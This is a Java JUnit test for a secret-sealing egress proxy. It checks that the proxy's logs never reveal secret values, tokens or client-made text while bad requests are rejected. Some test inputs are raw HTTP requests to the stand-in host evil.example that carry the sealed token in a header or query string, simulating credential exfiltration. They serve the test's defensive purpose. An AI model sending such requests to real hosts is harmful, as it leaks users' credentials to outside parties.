package dev.sealbox.proxy;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.encoder.PatternLayoutEncoder;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.OutputStreamAppender;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.slf4j.LoggerFactory;

/** Whatever happens, at whatever level: no log holds a value, a token, or what a client made up. */
class LogTest {
    private static final String HOST = "api.example.com";
    private static final String VALUE = "the-real-value-of-the-secret";

    @Test
    void neverShowsValuesTokensOrUntrustedText() throws IOException {
        var log = new ByteArrayOutputStream();
        var appender = appender(log);
        var root = (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
        var ours = (Logger) LoggerFactory.getLogger("dev.sealbox");
        root.addAppender(appender);
        ours.setLevel(Level.TRACE);
        String token;
        try {
            token = everything();
        } finally {
            ours.setLevel(Level.INFO);
            root.detachAppender(appender);
        }

        var text = log.toString(StandardCharsets.UTF_8);
        assertThat(text)
                .contains("egress.host-not-allowed", "egress.host-mismatch", "request.malformed", "sb-")
                .containsPattern("WARN .*Conversation a sandbox sent a token .* code=\"token.unknown\"");
        assertThat(text).doesNotContain(VALUE, token, token.substring(11), "osb_sealed_", "made-up");
    }

    private static String everything() throws IOException {
        var set = new TestProxy.Builder();
        set.secure(HOST, (request, out) -> {
            TestUpstream.respond(out, 200, "X-Echo: " + request.field("X").orElse("") + "\r\n", request.text());
            return !request.target().endsWith("last");
        });
        try (var proxy = set.start()) {
            var policy = proxy.policy().allow(HOST, "gone.invalid");
            var token = policy.secret("API_KEY", VALUE).value();
            proxy.admit(TestProxy.SANDBOX, policy);
            try (var client = proxy.tunnel(TestProxy.SANDBOX, HOST)) {
                client.post(HOST, "/made-up/" + token, token, "X: " + token, "made-up: made-up");
                client.get("made-up.example", "/made-up/" + token);
                client.get(HOST, "/", "X: osb_sealed_" + "0".repeat(32));
                client.get(HOST, "/last/made-up");
                client.send("made-up garbage " + token + "\r\n\r\n").receive();
            }
            for (var request : List.of(
                    "CONNECT evil.example:443 HTTP/1.1\r\nHost: made-up\r\nX: " + token + "\r\n\r\n",
                    "CONNECT made-up\u00e9" + token + ":443 HTTP/1.1\r\nHost: x\r\n\r\n",
                    "GET http://evil.example/made-up?" + token + " HTTP/1.1\r\nHost: evil.example\r\n\r\n",
                    "GET /made-up HTTP/9\r\n\r\n")) {
                try (var client = proxy.explicit(TestProxy.SANDBOX)) {
                    assertThat(client.send(request).receive().status()).isBetween(400, 499);
                }
            }
            try (var client = proxy.tunnel(TestProxy.SANDBOX, "gone.invalid")) {
                assertThat(client.get("gone.invalid", "/made-up").status()).isEqualTo(502);
            }
            return token;
        }
    }

    static OutputStreamAppender<ILoggingEvent> appender(ByteArrayOutputStream log) {
        var context = (LoggerContext) LoggerFactory.getILoggerFactory();
        var encoder = new PatternLayoutEncoder();
        encoder.setContext(context);
        encoder.setPattern("%level %logger %msg %kvp %mdc %ex{full}%n");
        encoder.start();
        var appender = new OutputStreamAppender<ILoggingEvent>();
        appender.setContext(context);
        appender.setEncoder(encoder);
        appender.setOutputStream(log);
        appender.start();
        return appender;
    }
}
